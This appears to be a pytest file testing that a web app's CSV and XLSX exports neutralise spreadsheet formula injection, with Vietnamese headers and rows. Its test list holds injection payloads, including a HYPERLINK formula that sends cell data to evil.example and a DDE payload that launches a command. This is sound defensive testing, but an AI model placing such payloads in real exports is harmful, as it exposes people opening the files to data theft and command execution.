"""Spreadsheet exports open as text in Excel: no formula runs, Vietnamese reads right."""

import csv
import io

import pytest
from openpyxl import load_workbook

from config.exports import csv_response, safe_cell, xlsx_response

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
HEADER = ["Thời điểm", "Người dùng", "Chi tiết"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_value_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [("HB-2026-0007", "HB-2026-0007"), ("Nguyễn = An", "Nguyễn = An"), (None, ""), (12, "12")],
)
def test_ordinary_values_are_left_as_they_are(value, expected):
    assert safe_cell(value) == expected


def rows():
    return [["01/03/2026", "hieutruong", value] for value in DANGEROUS] + [
        ["02/03/2026", "cán_bộ", "Đã xem hồ sơ"]
    ]


def test_csv_is_a_private_utf8_attachment_excel_reads_and_evaluates_nothing():
    response = csv_response("nhat-ky.csv", HEADER, rows())

    assert response["Content-Disposition"] == 'attachment; filename="nhat-ky.csv"'
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0] == HEADER
    details = [row[2] for row in table[1:]]
    assert details[-1] == "Đã xem hồ sơ"
    for written, value in zip(details, DANGEROUS, strict=False):
        assert written == "'" + value
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_cells_are_text_and_evaluate_nothing():
    response = xlsx_response("nhat-ky.xlsx", HEADER, rows(), title="Nhật ký")

    assert response["Content-Disposition"] == 'attachment; filename="nhat-ky.xlsx"'
    assert "no-store" in response["Cache-Control"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Nhật ký"
    table = list(sheet.iter_rows())
    assert [cell.value for cell in table[0]] == HEADER
    assert table[-1][2].value == "Đã xem hồ sơ"
    for row, value in zip(table[1:], DANGEROUS, strict=False):
        cell = row[2]
        assert cell.data_type == "s"
        # A carriage return survives when openpyxl writes with lxml (python-docx brings
        # it) and is normalised to a line feed by the standard library's XML writer.
        assert cell.value in ("'" + value, "'" + value.replace("\r", "\n"))


def test_xlsx_drops_control_characters_it_cannot_hold():
    response = xlsx_response("x.xlsx", ["a"], [["tên\x00\x07 em"]])

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].value == "tên em"
